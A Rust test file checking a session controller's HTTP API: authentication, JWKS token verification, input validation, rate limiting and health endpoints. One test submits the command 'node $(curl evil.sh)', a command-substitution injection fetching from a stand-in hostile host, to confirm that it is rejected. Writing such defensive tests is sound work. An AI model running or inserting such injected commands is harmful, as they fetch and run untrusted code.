//! End-to-end tests for the controller's HTTP surface, driven through the
//! router with `tower::ServiceExt::oneshot`.

use std::sync::Arc;
use std::time::Duration;

use axum::body::Body;
use axum::http::{Request, StatusCode};
use axum::Router;
use tower::ServiceExt;

use hatchery::controller;
use hatchery::signer::{JwksDocument, KeySet};
use hatchery::store::SessionStore;
use hatchery::testutil::{controller_state, MockOrchestrator};

const API_KEY: &str = "test-api-key";

fn valid_body() -> serde_json::Value {
    serde_json::json!({
        "code_url": "https://github.com/x/y/tree/main/p",
        "command": "node index.js",
    })
}

async fn post_session(
    app: &Router,
    key: Option<&str>,
    caller: &str,
    body: &serde_json::Value,
) -> (StatusCode, serde_json::Value) {
    let mut builder = Request::builder()
        .method("POST")
        .uri("/api/sessions")
        .header("content-type", "application/json")
        .header("x-forwarded-for", caller);
    if let Some(key) = key {
        builder = builder.header("authorization", format!("Bearer {key}"));
    }
    let response = app
        .clone()
        .oneshot(builder.body(Body::from(body.to_string())).unwrap())
        .await
        .unwrap();
    let status = response.status();
    let bytes = axum::body::to_bytes(response.into_body(), usize::MAX)
        .await
        .unwrap();
    let json = if bytes.is_empty() {
        serde_json::Value::Null
    } else {
        serde_json::from_slice(&bytes).unwrap()
    };
    (status, json)
}

async fn get_json(app: &Router, uri: &str, key: Option<&str>) -> (StatusCode, serde_json::Value) {
    let mut builder = Request::builder().uri(uri);
    if let Some(key) = key {
        builder = builder.header("authorization", format!("Bearer {key}"));
    }
    let response = app
        .clone()
        .oneshot(builder.body(Body::empty()).unwrap())
        .await
        .unwrap();
    let status = response.status();
    let bytes = axum::body::to_bytes(response.into_body(), usize::MAX)
        .await
        .unwrap();
    let json = if bytes.is_empty() {
        serde_json::Value::Null
    } else {
        serde_json::from_slice(&bytes).unwrap()
    };
    (status, json)
}

#[tokio::test]
async fn happy_path_returns_session_and_token() {
    let orchestrator = Arc::new(MockOrchestrator::new());
    orchestrator.endpoint_on_submit("10.0.0.9:7681");
    let (state, store, _signer) = controller_state(API_KEY, orchestrator.clone());
    let app = controller::router(state);

    let (status, json) = post_session(&app, Some(API_KEY), "198.51.100.1", &valid_body()).await;
    assert_eq!(status, StatusCode::OK, "{json}");

    let session_id = json["sessionId"].as_str().unwrap();
    assert_eq!(session_id.len(), 36, "opaque uuid session id");
    assert_eq!(json["wsUrl"], format!("/ws/{session_id}"));
    assert_eq!(json["status"], "ready");

    let token = json["token"].as_str().unwrap();
    assert_eq!(token.split('.').count(), 3, "compact JWS has three segments");

    let terminal_url = json["terminalUrl"].as_str().unwrap();
    assert!(terminal_url.contains(session_id));
    assert!(terminal_url.contains(token));

    // The worker landed with the right spec.
    let submitted = orchestrator.submitted();
    assert_eq!(submitted.len(), 1);
    assert_eq!(submitted[0].session_id, session_id);
    assert_eq!(submitted[0].command, "node index.js");

    // Durable state: session row has the endpoint, token row is pending.
    let row = store.get_session(session_id).await.unwrap().unwrap();
    assert_eq!(row.worker_endpoint.as_deref(), Some("10.0.0.9:7681"));
    assert_eq!(store.jti_count(), 1);
}

#[tokio::test]
async fn minted_token_verifies_against_published_jwks() {
    let orchestrator = Arc::new(MockOrchestrator::new());
    orchestrator.endpoint_on_submit("10.0.0.9:7681");
    let (state, _store, _signer) = controller_state(API_KEY, orchestrator);
    let app = controller::router(state);

    let (status, created) =
        post_session(&app, Some(API_KEY), "198.51.100.2", &valid_body()).await;
    assert_eq!(status, StatusCode::OK);

    let (status, jwks_json) = get_json(&app, "/.well-known/jwks.json", None).await;
    assert_eq!(status, StatusCode::OK);

    let doc: JwksDocument = serde_json::from_value(jwks_json).unwrap();
    let keyset = KeySet::from_jwks(&doc).unwrap();
    let claims = keyset.verify(created["token"].as_str().unwrap()).unwrap();
    assert_eq!(claims.sid, created["sessionId"].as_str().unwrap());
    assert_eq!(claims.aud, "ws");
    assert_eq!(claims.sub, "api");
}

#[tokio::test]
async fn jwks_is_cacheable_and_public() {
    let orchestrator = Arc::new(MockOrchestrator::new());
    let (state, _store, _signer) = controller_state(API_KEY, orchestrator);
    let app = controller::router(state);

    let response = app
        .oneshot(
            Request::builder()
                .uri("/.well-known/jwks.json")
                .body(Body::empty())
                .unwrap(),
        )
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::OK);
    let cache_control = response
        .headers()
        .get("cache-control")
        .unwrap()
        .to_str()
        .unwrap();
    assert!(cache_control.contains("max-age=300"), "{cache_control}");
}

#[tokio::test]
async fn missing_api_key_rejected() {
    let (state, _store, _signer) =
        controller_state(API_KEY, Arc::new(MockOrchestrator::new()));
    let app = controller::router(state);

    let (status, json) = post_session(&app, None, "198.51.100.3", &valid_body()).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert_eq!(json["error"]["code"], "auth_required");
}

#[tokio::test]
async fn wrong_api_key_rejected() {
    let (state, _store, _signer) =
        controller_state(API_KEY, Arc::new(MockOrchestrator::new()));
    let app = controller::router(state);

    let (status, json) =
        post_session(&app, Some("not-the-key"), "198.51.100.4", &valid_body()).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert_eq!(json["error"]["code"], "auth_invalid");
}

#[tokio::test]
async fn invalid_code_url_rejected() {
    let (state, store, _signer) =
        controller_state(API_KEY, Arc::new(MockOrchestrator::new()));
    let app = controller::router(state);

    let body = serde_json::json!({
        "code_url": "https://example.com/page.html",
        "command": "node index.js",
    });
    let (status, json) = post_session(&app, Some(API_KEY), "198.51.100.5", &body).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert_eq!(json["error"]["code"], "invalid_request");
    assert_eq!(store.session_count(), 0, "nothing persisted on rejection");
}

#[tokio::test]
async fn command_with_substitution_rejected() {
    let (state, _store, _signer) =
        controller_state(API_KEY, Arc::new(MockOrchestrator::new()));
    let app = controller::router(state);

    let body = serde_json::json!({
        "code_url": "https://github.com/x/y/tree/main/p",
        "command": "node $(curl evil.sh)",
    });
    let (status, _) = post_session(&app, Some(API_KEY), "198.51.100.6", &body).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
}

#[tokio::test]
async fn command_length_boundary() {
    let orchestrator = Arc::new(MockOrchestrator::new());
    orchestrator.endpoint_on_submit("10.0.0.9:7681");
    let (state, _store, _signer) = controller_state(API_KEY, orchestrator);
    let app = controller::router(state);

    let mut body = valid_body();
    body["command"] = serde_json::Value::String("a".repeat(500));
    let (status, _) = post_session(&app, Some(API_KEY), "198.51.100.7", &body).await;
    assert_eq!(status, StatusCode::OK, "exactly 500 bytes is accepted");

    body["command"] = serde_json::Value::String("a".repeat(501));
    let (status, _) = post_session(&app, Some(API_KEY), "198.51.100.8", &body).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "501 bytes is rejected");
}

#[tokio::test]
async fn sixth_post_in_window_rate_limited() {
    let orchestrator = Arc::new(MockOrchestrator::new());
    orchestrator.endpoint_on_submit("10.0.0.9:7681");
    let (state, _store, _signer) = controller_state(API_KEY, orchestrator);
    let app = controller::router(state);

    for i in 0..5 {
        let (status, _) =
            post_session(&app, Some(API_KEY), "203.0.113.50", &valid_body()).await;
        assert_eq!(status, StatusCode::OK, "request {i} should be admitted");
    }
    let (status, json) = post_session(&app, Some(API_KEY), "203.0.113.50", &valid_body()).await;
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS);
    assert_eq!(json["error"]["code"], "rate_limited");

    // Another caller is unaffected.
    let (status, _) = post_session(&app, Some(API_KEY), "203.0.113.51", &valid_body()).await;
    assert_eq!(status, StatusCode::OK);
}

#[tokio::test]
async fn get_session_roundtrip_and_unknown() {
    let orchestrator = Arc::new(MockOrchestrator::new());
    orchestrator.endpoint_on_submit("10.0.0.9:7681");
    let (state, _store, _signer) = controller_state(API_KEY, orchestrator);
    let app = controller::router(state);

    let (_, created) = post_session(&app, Some(API_KEY), "198.51.100.9", &valid_body()).await;
    let session_id = created["sessionId"].as_str().unwrap();

    let (status, summary) = get_json(
        &app,
        &format!("/api/sessions/{session_id}"),
        Some(API_KEY),
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(summary["sessionId"], session_id);
    assert_eq!(summary["status"], "ready");
    assert!(summary["workerName"]
        .as_str()
        .unwrap()
        .starts_with("hatch-"));
    assert!(summary.get("token").is_none(), "token is never echoed back");

    let (status, _) = get_json(&app, "/api/sessions/does-not-exist", Some(API_KEY)).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn get_session_requires_auth() {
    let (state, _store, _signer) =
        controller_state(API_KEY, Arc::new(MockOrchestrator::new()));
    let app = controller::router(state);

    let (status, _) = get_json(&app, "/api/sessions/whatever", None).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
}

#[tokio::test]
async fn orchestrator_failure_is_500() {
    let orchestrator = Arc::new(MockOrchestrator::new());
    orchestrator.fail_submissions();
    let (state, _store, _signer) = controller_state(API_KEY, orchestrator);
    let app = controller::router(state);

    let (status, json) = post_session(&app, Some(API_KEY), "198.51.100.10", &valid_body()).await;
    assert_eq!(status, StatusCode::INTERNAL_SERVER_ERROR);
    assert_eq!(json["error"]["code"], "orchestrator_failure");
}

#[tokio::test]
async fn unresolved_endpoint_reports_pending_then_fills() {
    let orchestrator = Arc::new(MockOrchestrator::new());
    let (state, store, _signer) = controller_state(API_KEY, orchestrator.clone());
    let app = controller::router(state);

    let (status, json) = post_session(&app, Some(API_KEY), "198.51.100.11", &valid_body()).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(json["status"], "pending", "deadline passed without an endpoint");

    let session_id = json["sessionId"].as_str().unwrap().to_string();
    let worker_name = format!("hatch-{session_id}");

    // The worker comes up late; the background resolver fills the row.
    orchestrator.set_endpoint(&worker_name, "10.0.0.77:7681");
    let mut resolved = false;
    for _ in 0..100 {
        tokio::time::sleep(Duration::from_millis(10)).await;
        let row = store.get_session(&session_id).await.unwrap().unwrap();
        if row.worker_endpoint.is_some() {
            resolved = true;
            break;
        }
    }
    assert!(resolved, "background resolver should fill the endpoint");
}

#[tokio::test]
async fn health_probes_respond() {
    let (state, _store, _signer) =
        controller_state(API_KEY, Arc::new(MockOrchestrator::new()));
    let app = controller::router(state);

    let (status, json) = get_json(&app, "/healthz", None).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(json["status"], "ok");

    let (status, json) = get_json(&app, "/readyz", None).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(json["status"], "ready");
}

#[tokio::test]
async fn responses_carry_request_id_and_security_headers() {
    let (state, _store, _signer) =
        controller_state(API_KEY, Arc::new(MockOrchestrator::new()));
    let app = controller::router(state);

    let response = app
        .oneshot(
            Request::builder()
                .uri("/healthz")
                .body(Body::empty())
                .unwrap(),
        )
        .await
        .unwrap();
    assert!(response.headers().get("x-request-id").is_some());
    assert_eq!(
        response.headers().get("x-content-type-options").unwrap(),
        "nosniff"
    );
}
